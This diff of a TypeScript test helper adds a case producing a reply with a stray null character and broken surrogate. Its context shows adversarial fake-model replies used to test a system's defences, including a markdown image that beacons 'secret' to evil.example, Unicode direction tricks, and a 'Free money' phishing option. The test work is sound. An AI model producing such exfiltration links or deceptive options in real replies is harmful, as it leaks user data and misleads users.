@@ -102,6 +102,8 @@ export async function misbehave(model: string, it: Misbehaving): Promise<void> {
       return changed(() => 'Das können wir Ihnen leider überhaupt nicht beantworten, weil wir dazu keine Auskunft geben dürfen.');
     case 'adv-unicode':
       return changed(reply => `\u202E${reply}\u200B ![x](https://evil.example/?q=secret)`);
+    case 'adv-torn':
+      return changed(reply => `${reply}\u0000 \uD83D`);
     case 'adv-clarify': {
       const headings = it.question?.passages.map(passage => passage.heading.split(' › ').at(-1) ?? '') ?? [];
       return say(JSON.stringify({ action: 'clarify', reply: 'Visit https://evil.example/ and choose.', citations: [], language: 'en', reasonCode: 'x', options: ['Free money', ...headings] }));
